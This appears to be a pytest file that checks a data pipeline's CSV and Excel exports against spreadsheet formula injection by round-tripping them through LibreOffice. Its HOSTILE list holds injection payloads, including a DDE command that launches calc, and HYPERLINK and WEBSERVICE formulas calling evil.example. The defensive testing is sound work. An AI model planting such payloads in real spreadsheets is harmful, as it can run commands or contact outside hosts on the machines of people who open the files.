"""Fault 34: nothing that people open of ours is a formula, in the spreadsheet that would run it.

Needs LibreOffice (Debian: libreoffice-calc); without it these tests say so and skip.
"""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from pipelines.cli.goals import import_, template
from pipelines.gate import audit_sheet
from pipelines.gate.audit import Drawn, Finding, Sample
from pipelines.model.company import read_company
from pipelines.publish.reports.build import build
from pipelines.publish.reports.workbook import workbook
from pipelines.settings import Settings
from pipelines.watch.alerts import fix_list
from tests.conftest import lacking
from tests.model.goal.served import lay_down
from tests.publish.reports.conftest import SALES
from tests.publish.reports.served import lay_down as lay_down_figures

pytestmark = pytest.mark.faults

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", " =1+1", "＝1+1", "=WEBSERVICE(\"http://evil.example\")", "\"=1+1\"", "=1+1;x", "'=1+1", "0123", "1e3",
]  # fmt: skip
# A comma, a quote, UTF-8, from the first line; columns as they are; and what is off by itself: formulas are evaluated.
EVALUATED = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


def converted(path: Path, to: str, *options: str) -> Path:
    """`path` opened in LibreOffice and saved as another kind of file."""
    if shutil.which("soffice") is None:
        lacking("libreoffice", "LibreOffice is not installed")
    profile, out = path.parent / "profile", path.parent / "out"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", *options, "--convert-to", to, "--outdir", out, path],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return out / f"{path.stem}.{to.split(':')[0]}"


def formulas(path: Path, *options: str) -> int:
    """Cells that LibreOffice takes for formulas."""
    return converted(path, "fods", *options).read_text(encoding="utf-8").count("table:formula=")


def test_a_formula_would_be_seen(tmp_path: Path) -> None:
    plain = tmp_path / "plain.csv"
    plain.write_text('"a"\n=1+1\n', encoding="utf-8")
    assert formulas(plain, f"--infilter={EVALUATED}") == 1
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet["A1"] = "=1+1"
    book.save(tmp_path / "book.xlsx")
    assert formulas(tmp_path / "book.xlsx") == 1


def test_no_cell_of_a_list_is_a_formula_and_every_key_can_still_be_read(tmp_path: Path) -> None:
    path = tmp_path / fix_list.write_rows(
        tmp_path, "raw_crm.deals", "a rule", ["=key", "n"], list(zip(HOSTILE, HOSTILE, strict=True))
    )
    assert formulas(path, f"--infilter={EVALUATED}") == 0
    with path.open(encoding="utf-8-sig", newline="") as file:
        _, *rows = csv.reader(file)
    assert [row[0].removeprefix("'") for row in rows] == [key.removeprefix("'") for key in HOSTILE]


def test_no_cell_of_an_audit_is_a_formula_and_it_comes_back_from_libreoffice_as_it_was_filled_in(
    tmp_path: Path,
) -> None:
    path = tmp_path / "audit.xlsx"
    keys = [key for key in HOSTILE if key.strip() == key]
    sample = Sample("S1", "crm.customers", 7, 0.02, dt.datetime(2026, 3, 31), dict.fromkeys(keys))
    audit_sheet.write(path, sample, [Drawn(key, None, {"name": key, "city": "Xi'an"}) for key in keys])
    assert formulas(path) == 0
    book = load_workbook(path)
    for number in range(2, len(keys) + 1):  # the last is left open
        book["audit"].cell(number, 4).value = "yes" if number == 2 else "否"
    book["audit"].cell(2, 5).value = "city"
    book.save(path)
    found = audit_sheet.read(converted(path, "xlsx"))
    assert found == audit_sheet.read(path)
    sample_id, answers, open_ = found
    assert (sample_id, open_) == ("S1", [keys[-1]])
    assert answers[keys[0]] == Finding(keys[0], True, ("city",))
    assert set(answers) == set(keys[:-1])


def test_a_workbook_of_goals_comes_back_from_libreoffice_as_it_was_filled_in(tmp_path: Path) -> None:
    settings = lay_down(tmp_path)  # one of its reps is called =1+1
    path = tmp_path / "goals.xlsx"
    template(settings, 2026, "rep", "month", ["won_amount"], path)
    book = load_workbook(path)
    assert formulas(path) == len(book["targets"]["S"][1:]) + len(book["last_year"]["S"][1:])  # its own sums alone
    for place, number in (("G2", 100), ("H2", 200.25), ("G3", 1 / 3), ("R3", 0)):
        book["targets"][place] = number
    book.save(path)
    saved = converted(path, "xlsx")
    import_(settings, saved, "draft", False)
    (text,) = (one.read_text(encoding="utf-8") for one in settings.config.rglob("fy26_won_amount_by_rep.csv"))
    assert text.splitlines()[1:] == ["=1+1,100,200.25,,,,,,,,,,", "e1,0.333333,,,,,,,,,,,0"]
    assert load_workbook(saved)["targets"].protection.sheet


def test_no_cell_of_a_report_is_a_formula_and_libreoffice_keeps_its_numbers_and_charts(tmp_path: Path) -> None:
    serving = lay_down_figures(tmp_path / "kpi.duckdb").parent  # its units are called =, +, @ and so on
    said = SALES.model_copy(update={"month": SALES.quarter})
    report = build(serving, read_company(Settings().kpi_definitions), said, [], "", "2026-04")
    path = tmp_path / "report.xlsx"
    path.write_bytes(workbook(report, "en"))
    assert formulas(path) == 0
    saved, first = load_workbook(converted(path, "xlsx")), load_workbook(path)
    compared = 0
    for sheet in first:
        for row in sheet.iter_rows():
            for cell in row:
                again = saved[sheet.title][cell.coordinate].value
                if isinstance(cell.value, int | float):
                    assert again == pytest.approx(cell.value, rel=1e-9)
                    compared += 1
                elif cell.value is not None:
                    assert again == cell.value
    assert compared > 80
    assert sum(len(sheet._charts) for sheet in saved) == sum(len(sheet._charts) for sheet in first) > 0
